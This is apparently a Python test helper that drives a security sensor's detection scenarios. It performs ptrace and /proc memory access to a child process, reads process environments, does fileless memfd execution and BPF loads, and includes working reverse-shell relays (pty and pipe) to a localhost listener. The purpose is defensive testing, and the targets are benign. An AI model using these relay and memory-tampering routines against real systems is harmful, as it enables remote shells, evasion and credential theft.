#!/usr/bin/python3
"""Behaviours the rule scenarios drive that have no everyday command-line tool:
memory access to another process, memfd execution, raw BPF and packet sockets.

Each subcommand does the real thing through the real system call (ctypes), once,
the way an attacker's tool or a legitimate tool would. Used by
tests/integration/test_rule_scenarios.py; run by hand as
`python3 tests/scenarios/actor.py SUBCOMMAND [PID]`.

Memory writes put back the bytes they read: the victim is never changed.
"""
import ctypes
import ctypes.util
import os
import signal
import socket
import subprocess
import sys
import time

libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 5, 16, 17
SYS_bpf = 321


class iovec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


def writable_addr(pid):
    """The start of a private writable mapping of the process (its data or stack)."""
    with open(f"/proc/{pid}/maps") as f:
        for line in f:
            rng, perms = line.split()[:2]
            if perms.startswith("rw"):
                return int(rng.split("-")[0], 16)
    raise SystemExit(f"no writable mapping in {pid}")


def child():
    """A child to work on (the legitimate case: a debugger's own inferior)."""
    return subprocess.Popen(["/usr/bin/sleep", "30"])


def ptrace_poke(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise SystemExit(f"PTRACE_ATTACH {pid}: {os.strerror(ctypes.get_errno())}")
    os.waitpid(pid, 0)
    addr = writable_addr(pid)
    ctypes.set_errno(0)
    word = libc.ptrace(PTRACE_PEEKDATA, pid, ctypes.c_void_p(addr), None)
    if ctypes.get_errno():
        raise SystemExit(f"PEEKDATA: {os.strerror(ctypes.get_errno())}")
    if libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(addr), ctypes.c_void_p(word)) != 0:
        raise SystemExit(f"POKEDATA: {os.strerror(ctypes.get_errno())}")
    libc.ptrace(PTRACE_DETACH, pid, None, None)


def ptrace_attach(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise SystemExit(f"PTRACE_ATTACH {pid}: {os.strerror(ctypes.get_errno())}")
    os.waitpid(pid, 0)
    libc.ptrace(PTRACE_DETACH, pid, None, None)


def mem_read(pid):
    addr = writable_addr(pid)
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as f:
        f.seek(addr)
        return len(f.read(64))


def mem_write(pid):
    addr = writable_addr(pid)
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as f:
        f.seek(addr)
        data = f.read(8)
        f.seek(addr)
        f.write(data)


def vm(pid, write):
    addr = writable_addr(pid)
    buf = ctypes.create_string_buffer(64)
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = iovec(ctypes.c_void_p(addr), 64)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n != 64:
        raise SystemExit(f"process_vm_readv: {os.strerror(ctypes.get_errno())}")
    if write:
        n = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if n != 64:
            raise SystemExit(f"process_vm_writev: {os.strerror(ctypes.get_errno())}")


def environ(pid):
    with open(f"/proc/{pid}/environ", "rb") as f:
        return len(f.read())


def memfd_exec(prog="/usr/bin/true"):
    fd = os.memfd_create("payload", 0)
    with open(prog, "rb") as f:
        os.write(fd, f.read())
    os.execv(f"/proc/self/fd/{fd}", ["payload"])


def fd_exec(prog="/usr/bin/true"):
    """fexecve of a file on disk: the same call shape, nothing fileless."""
    fd = os.open(prog, os.O_RDONLY)
    os.execv(f"/proc/self/fd/{fd}", ["true"])


def bpf_prog_load():
    # BPF_PROG_TYPE_SOCKET_FILTER: r0 = 0; exit
    insns = (ctypes.c_uint64 * 2)(0x00000000000000b7, 0x0000000000000095)
    lic = ctypes.create_string_buffer(b"GPL")
    attr = (ctypes.c_uint8 * 128)()
    ctypes.c_uint32.from_buffer(attr, 0).value = 1           # prog_type
    ctypes.c_uint32.from_buffer(attr, 4).value = 2           # insn_cnt
    ctypes.c_uint64.from_buffer(attr, 8).value = ctypes.addressof(insns)
    ctypes.c_uint64.from_buffer(attr, 16).value = ctypes.addressof(lic)
    libc.syscall.restype = ctypes.c_long
    fd = libc.syscall(SYS_bpf, 5, ctypes.byref(attr), 128)   # BPF_PROG_LOAD
    if fd < 0:
        raise SystemExit(f"BPF_PROG_LOAD: {os.strerror(ctypes.get_errno())}")
    os.close(fd)


def unix_stdio_shell():
    """A shell whose stdin is a unix socket: how every systemd service's stdio looks."""
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    p = subprocess.Popen(["/bin/sh", "-c", "read line; exit 0"], stdin=a)
    a.close()
    time.sleep(1.5)
    b.sendall(b"done\n")
    p.wait(timeout=30)


def pty_relay(sock):
    """The "upgraded" reverse shell: the socket on this process's stdio (dup2), a shell on
    a pseudo-terminal this process relays to it (pty.spawn): the shell's own stdio is the
    pty, not the socket. Run from a script file: no -c one-liner for argv rules to see."""
    import pty
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)
    pty.spawn(["/bin/sh"])


def pty_relay_unix():
    """The same relay on a unix socket: how a web terminal service (ttyd, a notebook's
    terminal) under systemd looks — its stdio the journal's unix socket."""
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    if os.fork() == 0:
        b.close()
        pty_relay(a)
        os._exit(0)
    a.close()
    time.sleep(1.5)
    b.sendall(b"exit\n")
    while b.recv(4096):
        pass
    os.wait()


def pipe_relay(sock, argv):
    """A relay through pipes: a program on pipes this process copies to and from the socket
    it holds on another fd — ncat -e's way, and a Go implant's (exec.Cmd with the connection
    as Stdin and Stdout). Run from a script file: no one-liner for argv rules to see."""
    import threading
    p = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT)

    def up():
        for d in iter(lambda: sock.recv(4096), b""):
            p.stdin.write(d)
            p.stdin.flush()
        p.stdin.close()
    threading.Thread(target=up, daemon=True).start()
    for d in iter(lambda: p.stdout.read1(4096), b""):
        sock.sendall(d)
    p.wait()


def pipe_relay_script(sock):
    """The same relay for a shell given a script: a CI runner running a job step, its output
    sent on to the server (the script reads the server's line, and ends)."""
    import tempfile
    with tempfile.NamedTemporaryFile("w", suffix=".sh") as f:
        f.write("read line\necho \"step: $line\"\n")
        f.flush()
        pipe_relay(sock, ["/bin/sh", f.name])


def shell(argv, stdin=subprocess.DEVNULL):
    return subprocess.call(argv, stdin=stdin, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)


CHILDREN = set()


def on_child(fn, *a):
    c = child()
    CHILDREN.add(c.pid)
    time.sleep(0.2)  # let it exec sleep
    try:
        fn(c.pid, *a)
        time.sleep(1.0)  # alive while the sensor looks at the relation
    finally:
        c.kill()
        c.wait()


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    pid = int(args[0]) if args and args[0].isdigit() else 0
    if cmd == "ptrace-poke":
        ptrace_poke(pid)
    elif cmd == "ptrace-poke-child":
        on_child(ptrace_poke)
    elif cmd == "ptrace-attach":
        ptrace_attach(pid)
    elif cmd == "mem-read":
        mem_read(pid)
    elif cmd == "mem-read-child":
        on_child(mem_read)
    elif cmd == "mem-write":
        mem_write(pid)
    elif cmd == "mem-write-child":
        on_child(mem_write)
    elif cmd == "vm-read":
        vm(pid, False)
    elif cmd == "vm-read-child":
        on_child(vm, False)
    elif cmd == "vm-write":
        vm(pid, True)
    elif cmd == "vm-write-child":
        on_child(vm, True)
    elif cmd == "environ-child":
        on_child(environ)
    elif cmd == "memfd-exec":
        memfd_exec()
    elif cmd == "fd-exec":
        fd_exec()
    elif cmd == "bpf-prog-load":
        bpf_prog_load()
    elif cmd == "packet-socket":
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    elif cmd == "inet-socket":
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
    elif cmd == "unix-stdio-shell":
        unix_stdio_shell()
    elif cmd == "pty-relay-shell":  # args: the listener's port
        pty_relay(socket.create_connection(("127.0.0.1", int(args[0]))))
    elif cmd == "pty-relay-unix":
        pty_relay_unix()
    elif cmd == "pipe-relay-shell":  # args: the listener's port
        pipe_relay(socket.create_connection(("127.0.0.1", int(args[0]))), ["/bin/sh"])
    elif cmd == "pipe-relay-script":  # args: the listener's port
        pipe_relay_script(socket.create_connection(("127.0.0.1", int(args[0]))))
    elif cmd == "spawn-shell":      # a web app's "upgrade to an interactive shell"
        shell(["/bin/sh", "-i"])
    elif cmd == "spawn-bash-i":
        shell(["/bin/bash", "-i"])
    elif cmd == "sh-c":             # a shell with a command: build tools, npm scripts
        shell(["/bin/sh", "-c", args[0]])
    else:
        raise SystemExit(f"unknown subcommand {cmd}")


if __name__ == "__main__":
    main()
